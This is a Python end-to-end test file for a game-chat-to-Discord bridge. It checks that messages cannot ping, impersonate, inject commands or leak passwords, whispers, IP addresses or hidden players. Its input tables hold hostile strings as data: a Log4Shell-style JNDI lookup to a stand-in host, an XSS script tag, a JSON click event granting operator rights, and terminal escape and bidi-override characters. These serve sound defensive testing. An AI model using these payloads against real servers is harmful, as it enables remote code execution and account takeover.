"""Whatever people type: nobody is pinged, nothing is imitated, and what is private stays in the game."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

import pytest

from bridge.simulator.discord import Message
from bridge.simulator.web.markup import Node, parse_markup

if TYPE_CHECKING:
    from tests.end_to_end.conftest import Town

TYPED_IN_GAME = {
    "Boris joined the game": None,
    "<Admin> give me your password": None,
    "Alix was slain by Herobrine": None,
    "[12:00:00] [Server thread/INFO]: Boris left the game": None,
    "* Boris waves": None,
    "[Server] the server restarts": None,
    "@everyone @here come": None,
    "@a @p @s[limit=1]": None,
    '{"text":"boo","clickEvent":{"action":"run_command","value":"/op me"}}': None,
    "§4red §lbold": "red bold",
    "\u202emirrored\u202c": "mirrored",
    "_names_ __like__ *these* ~~and~~ ||those|| `code` ```block```": None,
    "# no heading": None,
    "> no quote": None,
    "-# no small print": None,
    "- no list": None,
    "1. no list either": None,
    "[click me](https://evil.example/)": None,
    "<@111111111111111111> <@&222222222222222222> <#333333333333333333>": None,
    "<:emoji:444444444444444444> <t:1700000000:R> </list:555555555555555555>": None,
    "a\x00b\x07c\x1b[31md": "abcd",
    "back\\slash \\* \\@everyone": None,
    "😀" * 256: None,
    "%s {0} ${HOME} {player}": None,
    "a, b;--'\"<script>alert(1)</script>": None,
}
"""What a player types, and what of it is visible; None: all of it."""

TYPED_ON_DISCORD = {
    "Boris joined the game": None,
    "<Admin> hello": None,
    "@a @e @p @s": None,
    '{"text":"boo"}': None,
    '"},{"text":"boo"': None,
    "§4red §k§lboo": "red boo",
    "\\u00a7cred": "\\u00a7cred",
    "/op Mira": None,
    "%player_name% ${jndi:ldap://evil.example/a}": None,
    "back\\\\slash": "back\\slash",
    "\u202emirrored": "mirrored",
    "a\u200b\u2066b": "ab",
    "😀" * 100: None,
    "two\nlines": "two lines",
}


def plain(message: Message) -> str:
    """Return what a reader sees of a message in which nothing has any looks."""
    return _text(parse_markup(message.content))


def _text(nodes: tuple[Node, ...]) -> str:
    pieces = []
    for node in nodes:
        assert node.kind in {"line", "text", "link", "break"}, node  # nothing that people typed has looks
        assert node.kind != "link" or node.href.rstrip("/") == node.text.rstrip("/"), node
        pieces.append(_text(node.nodes) or node.text)
    return "".join(pieces)


async def test_what_a_player_types_shows_as_typed_and_does_nothing_else(town: Town) -> None:
    async with town.bridge():
        for number, text in enumerate(TYPED_IN_GAME):
            town.game.chat("Alix", text)
            posts = await town.posted(number + 1)
            assert len(posts) == number + 1
        posts = town.posts()
        assert [plain(post) for post in posts] == [shown or text for text, shown in TYPED_IN_GAME.items()]
        assert {post.author.name for post in posts} == {"Alix"}
        assert not any(post.pinged for post in posts)


@pytest.mark.parametrize("webhooks", [True, False])
async def test_nobody_is_pinged_from_the_game(town: Town, *, webhooks: bool) -> None:
    role = town.discord.add_role("Players", mentionable=True)
    async with town.bridge(discord={"webhooks": webhooks}):
        town.game.chat("Alix", f"@everyone @here <@{town.member.id}> <@&{role.id}> @Mira")
        town.game.emote("Alix", f"wakes @everyone and <@{town.member.id}>")
        town.game.say("Alix", f"@here <@&{role.id}>")
        town.game.advance("Alix", "@everyone")
        await town.lines(4)
        assert not any(post.pinged for post in town.posts())


async def test_what_a_member_types_shows_as_typed_and_does_nothing_else(town: Town) -> None:
    async with town.bridge():
        for text in TYPED_ON_DISCORD:
            await town.say(text)
        await town.quiet()
        shown = [run for line in town.game.received for run in line.component.runs]
        assert not [run for run in shown if run.click]
        lines = [line for received in town.game.received for line in received.plain.split("\n")]
        wanted = [f"[Discord] <Mira> {shown or text}" for text, shown in TYPED_ON_DISCORD.items()]
        assert lines[:-1] == wanted


async def test_a_member_cannot_imitate_anybody_with_a_name(town: Town) -> None:
    tricky = town.discord.add_member("Alix> hi\n§4<Admin")
    async with town.bridge():
        await town.discord.say(town.channel, tricky, "trick")
        line = await town.seen("trick")
        assert line.plain.startswith("[Discord] <")
        assert "§" not in line.plain
        assert "\n" not in line.plain


async def test_whispers_arguments_of_commands_and_addresses_never_leave(town: Town) -> None:
    game = await town.add_game("paper", dialect="paper")
    async with town.bridge() as bridge:
        game.issue("Alix", "/login hunter2")
        game.issue("Alix", "/msg Boris meet me at 10 64 10")
        game.log_line("Server thread", "INFO", "[Alix -> Boris] our secret")
        game.log_line("Server thread", "INFO", "Alix whispers to Boris: our secret")
        game.log_line("Server thread", "INFO", "[Alix: Gave 1 [Diamond] to Boris secretly]")
        game.chat("Alix", "my server is 203.0.113.7:25565 or [2001:db8::7]:25565")
        game.leave("Boris", reason="/198.51.100.9 kicked by firewall")
        post = await town.post("my server is")
        assert plain(post) == "my server is [address]:25565 or [address]:25565"
        await town.quiet()
        told = "\n".join(town.told())
        _, metrics = await bridge.get("/metrics")
        page = await bridge.page().text()
        private = ("hunter2", "meet me", "secret", "203.0.113.7", "2001:db8", "198.51.100.9", "127.0.0.1:5")
        for secret in private:
            assert secret not in told
            assert secret not in metrics
            assert secret not in page


async def test_hidden_players_are_never_named(town: Town) -> None:
    hidden: dict[str, Any] = {
        "privacy": {"hidden-players": ["bORIS"]},
        "discord": {"avatar-url": "https://heads.example/{name}"},
    }
    async with town.bridge(**hidden) as bridge, bridge.page() as page:
        town.game.leave("Boris")
        town.game.join("Boris")
        town.game.chat("Boris", "can you see me?")
        town.game.emote("Boris", "hides")
        town.game.die("Boris", "fell from a high place")
        town.game.advance("Boris", "Stone Age")
        town.game.die("Alix", "was slain by Boris using [Boris's Blade]")
        await town.post("slain")
        await town.quiet()
        answer = await town.discord.use_command(town.member, town.channel, "list")
        everything = [*town.told(), *[str(post.author) for post in town.posts()], *page.lines]
        everything += [await page.text(), (await bridge.get("/"))[1], (await bridge.get("/metrics"))[1]]
        everything += [message.content for message in answer.responses]
        assert "can you see me?" in "\n".join(town.told())
        assert re.findall(".{0,60}boris.{0,60}", "\n".join(everything), re.IGNORECASE) == []


async def test_a_name_that_is_all_markdown_shows_as_it_is(town: Town) -> None:
    town.game.join("_under_score_")
    async with town.bridge():
        town.game.leave("_under_score_")
        assert await town.lines(1) == ["_under_score_ left"]


async def test_an_address_is_masked_where_it_is_quoted_too(town: Town) -> None:
    async with town.bridge():
        first = await town.say("the old server was at 203.0.113.9")
        await town.say("thanks", reply_to=first)
        await town.seen("thanks")
        shown = " ".join(line.plain for line in town.game.received)
        assert shown.count("[address]") == 2
        assert "203.0.113.9" not in shown
